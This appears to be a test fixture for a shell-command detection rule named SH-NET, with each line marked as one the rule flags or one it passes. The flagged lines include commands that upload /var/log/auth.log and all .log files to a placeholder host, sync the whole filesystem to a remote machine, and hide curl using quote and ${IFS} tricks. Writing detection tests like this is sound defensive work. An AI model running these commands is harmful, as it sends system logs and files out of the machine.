# ruleid: SH-NET
"c"ur'l' -s http://example.com
# ruleid: SH-NET
curl${IFS}http://example.com
# ruleid: SH-NET
ssh root@10.0.0.1
# ok: SH-NET
echo "curl the file, then wget it"
# ok: SH-NET
git log --oneline | head
# ruleid: SH-NET
rsync -a / backup:/all
# ruleid: SH-NET
find / -name '*.log' -exec curl -F 'f=@{}' https://x.example \;
# ruleid: SH-NET
curl -T /var/log/auth.log https://x.example
# ruleid: SH-NET
curl -d @payload.json https://x.example
